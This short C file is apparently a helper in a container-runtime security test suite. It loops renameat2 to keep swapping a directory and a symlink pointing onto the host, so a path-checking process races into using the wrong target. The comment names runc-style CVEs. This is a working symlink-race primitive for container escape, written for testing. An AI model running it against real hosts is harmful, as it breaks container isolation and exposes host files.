/*
 * swap A B - exchanges two names without an end, renameat2(2): a directory and
 * a symbolic link to somewhere on the host, so that who looks at a path first
 * and uses it then has looked at the one and uses the other (CVE-2021-30465,
 * and of the masks CVE-2025-31133, CVE-2025-52565).
 */
#include "attack.h"

#include <signal.h>

int main(int argc, char **argv)
{
    alarm(60); /* should nobody end us */
    while (argc == 3 && renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2],
                                  RENAME_EXCHANGE) == 0)
        usleep(50); /* on one processor others have to have their turn */
    return !attack_answer("renameat2", -1);
}
